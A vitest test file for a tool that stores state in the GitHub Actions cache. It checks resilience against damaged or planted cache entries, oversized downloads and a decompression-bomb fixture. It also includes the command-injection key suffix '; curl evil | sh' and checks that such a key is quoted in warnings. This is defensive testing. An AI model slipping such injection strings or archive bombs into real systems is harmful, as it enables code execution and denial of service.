// Who can write to the Actions cache wants to stop a host, or all writes, with one entry that is in the way.
import { rm } from 'node:fs/promises';
import { dirname } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it, onTestFinished } from 'vitest';
import { versionOf } from '../support/cache-entries.ts';
import { keyOf, plantDamaged, plantText } from '../support/shared-entries.ts';
import { notesOf, openShared, problemOf, publish } from '../support/shared-steps.ts';
import { archive, header } from '../support/tar-archive.ts';
import { checkJob, openWriteArea, writeJob, type WriteArea } from '../support/write-area.ts';

const shared = await openShared();
const { service, hosts } = shared;
afterAll(() => shared.close());
const secret = 'a secret of more than 32 characters';
const huge = 999_999_999_999;

describe.each([
  ['with a state-key', { secret }],
  ['without one', {}],
])('%s', (_, options) => {
  it('an entry with a huge number does not stop a host that has its file, and is named', async () => {
    const { join, namespace, generations } = hosts();
    const host = await join(options);
    await publish(host, 'a');
    plantDamaged(service, namespace, huge);
    await publish(host, 'b');
    await publish(host, 'c');
    expect(generations()).toEqual([1, huge, 2, 3]);
    expect(host.warnings).toEqual([
      expect.stringMatching(new RegExp(`gh cache delete ${keyOf(namespace, huge)}`)),
    ]);
  });

  it('nor a host without a file, which goes on from what can be read', async () => {
    const { join, namespace, generations } = hosts();
    await publish(await join(options), 'a');
    plantDamaged(service, namespace, huge);
    const host = await join(options);
    await publish(host, 'b');
    await host.loseFile();
    const other = await join(options);
    expect(await notesOf(other.open())).toEqual(['a', 'b']);
    await publish(other, 'c');
    expect(generations()).toEqual([1, huge, 2, 3]);
    expect(host.warnings.join()).toContain(`gh cache delete ${keyOf(namespace, huge)}`);
  });

  it('nor a new host: there never was a state of ours', async () => {
    const { join, namespace, generations } = hosts();
    plantDamaged(service, namespace, huge);
    await publish(await join(options), 'a');
    expect(generations()).toEqual([huge, 1]);
  });

  it('an entry that was put where the next generation goes is passed by in the run after at the latest', async () => {
    const { join, namespace, generations } = hosts();
    const host = await join(options);
    await publish(host, 'a');
    // Long ago: the look-up gives the newest by age, so they are met when they are in the way.
    const bytes = archive([{ name: 'ops-state.json', data: 'garbage' }]);
    for (const generation of [3, 4]) service.put({ key: keyOf(namespace, generation), bytes, createdAt: 1 });
    await publish(host, 'b');
    await publish(host, 'c').catch(() => undefined);
    await publish(host, 'd');
    expect(Math.max(...generations())).toBeGreaterThanOrEqual(5);
    expect(await notesOf((await join(options)).open())).toEqual(['a', 'b', 'c', 'd']);
  });

  it.each(['x', '12', '; curl evil | sh'])(
    'a key that only begins like ours (%s) stops nobody',
    async (end) => {
      const { join, namespace, generations } = hosts();
      const host = await join(options);
      await publish(host, 'a');
      const key = `${keyOf(namespace, 1).slice(0, -12)}${end}`;
      service.put({ key, bytes: Buffer.from('x') });
      await publish(host, 'b');
      expect(generations()).toContain(2);
      const shown = /^[\w-]+$/.test(key) ? key : `'${key}'`;
      expect(host.warnings.join()).toContain(`gh cache delete ${shown}`);
      expect(await notesOf((await join(options)).open())).toEqual(['a', 'b']);
    },
  );
});

it('what nobody with the key saved is passed by where there is a file, and never taken for an empty cache', async () => {
  const { join, namespace, generations } = hosts();
  const host = await join({ secret });
  await publish(host, 'a');
  plantText(service, namespace, 2, '{"format":"ops-framework-sealed","iv":"","tag":"","data":""}');
  expect(await problemOf((await join({ secret })).open())).toContain(
    `gh cache delete ${keyOf(namespace, 2)}`,
  );
  await publish(host, 'b');
  expect(generations()).toEqual([1, 2, 3]);
  expect(await notesOf((await join({ secret })).open())).toEqual(['a', 'b']);
});

const start = 'ops-writes-v1-box-';
const version = versionOf(['ops-writes.json']);
const ledgerKey = (generation: number) => `${start}${String(generation).padStart(12, '0')}`;

/** Eight gigabytes of zeros in an archive of eight megabytes, in a file that nobody asks for. */
function bomb(): Buffer {
  const zeros = gzipSync(Buffer.alloc(64 * 1024 * 1024));
  return Buffer.concat([
    gzipSync(header({ name: 'other.json' }, 128 * 64 * 1024 * 1024)),
    ...Array.from({ length: 128 }, () => zeros),
    gzipSync(Buffer.alloc(1024)),
  ]);
}

/** Where the ledger has entries already; `next`: the number of the one that comes. */
async function openPlanned(azureHost = false) {
  const place = await openWriteArea({ azureHost });
  onTestFinished(() => place.close());
  await place.jobs(writeJob(), checkJob());
  await place.plan();
  place.dispatch();
  const known = place.service.entries().filter(({ key }) => key.startsWith(start));
  return { place, next: known.length + 1 };
}

async function expectApplied(place: WriteArea, said: string): Promise<void> {
  const planned = await place.plan();
  expect(planned.step.stdout).toContain(said);
  place.api.gate.approve('approver');
  const applied = await place.run('apply', { 'plan-digest': planned.digest });
  expect(applied.outputs['verdict']).toBe('applied');
}

describe('a write is planned and applied', () => {
  it('although there are more of them than GitHub lists at once', async () => {
    const { place, next } = await openPlanned();
    const bytes = archive([{ name: 'ops-writes.json', data: 'garbage' }]);
    // The lowest is the newest: that is what the cache answers with.
    for (let more = 250; more >= 0; more -= 1)
      place.service.put({ key: ledgerKey(next + more), bytes, version, createdAt: Date.now() - more });
    await expectApplied(place, `gh cache delete ${ledgerKey(next)}`);
  });

  it('although the entry would unpack for minutes', async () => {
    const { place, next } = await openPlanned();
    place.service.put({ key: ledgerKey(next), bytes: bomb(), version });
    await expectApplied(place, `gh cache delete ${ledgerKey(next)}`);
  });

  it.each([true, false])('although it would come for minutes (Azure: %s)', async (azureHost) => {
    const { place, next } = await openPlanned(azureHost);
    place.service.put({ key: ledgerKey(next), bytes: Buffer.alloc(33 * 1024 * 1024, 1), version });
    place.service.fail({ rpc: 'download', kind: 'trickle' });
    await expectApplied(place, `gh cache delete ${ledgerKey(next)}`);
  });

  it.each([
    ['a huge number', huge],
    ['the next number', undefined],
  ])('although an entry of the ledger has %s', async (_, generation) => {
    const place = await openWriteArea();
    onTestFinished(() => place.close());
    await place.jobs(writeJob(), checkJob());
    await place.plan();
    place.dispatch();
    const known = place.service.entries().filter(({ key }) => key.startsWith(start));
    const key = `${start}${String(generation ?? known.length + 1).padStart(12, '0')}`;
    place.service.put({
      key,
      bytes: archive([{ name: 'ops-writes.json', data: 'garbage' }]),
      version,
    });
    const planned = await place.plan();
    expect(planned.step.stdout).toContain(`gh cache delete ${key}`);
    place.api.gate.approve('approver');
    const applied = await place.run('apply', { 'plan-digest': planned.digest });
    expect(applied.outputs['verdict']).toBe('applied');
  });

  it('on a host that lost its file too', async () => {
    const place = await openWriteArea();
    onTestFinished(() => place.close());
    await place.jobs(writeJob(), checkJob());
    await place.plan();
    place.dispatch();
    await rm(dirname(place.area.stateFile), { recursive: true });
    place.service.put({
      key: `ops-writes-v1-box-${huge}`,
      bytes: Buffer.from('x'),
      version,
    });
    expect((await place.plan()).digest).toMatch(/^[0-9a-f]{64}$/);
    expect((await place.ledger()).map(({ status }) => status)).toEqual(['superseded', 'planned']);
  });
});
